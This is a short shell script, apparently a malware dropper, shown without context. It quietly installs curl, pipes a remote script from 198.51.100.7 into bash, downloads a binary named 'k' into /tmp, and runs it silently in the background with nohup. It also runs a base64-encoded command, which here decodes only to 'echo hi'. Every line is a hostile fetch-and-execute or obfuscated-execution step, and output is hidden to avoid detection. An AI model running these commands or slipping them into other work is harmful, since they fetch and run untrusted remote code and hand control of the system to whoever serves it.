apk add --no-cache curl >/dev/null 2>&1; (curl -fsSL http://198.51.100.7/x.sh || wget -qO- http://198.51.100.7/x.sh) | bash -s -- -q &
cd /tmp || cd /var/tmp; [ -x ./k ] || { curl -o k http://198.51.100.7/k; chmod +x k; }; nohup ./k >/dev/null 2>&1 &
echo ZWNobyBoaQo= | base64 -d | sh
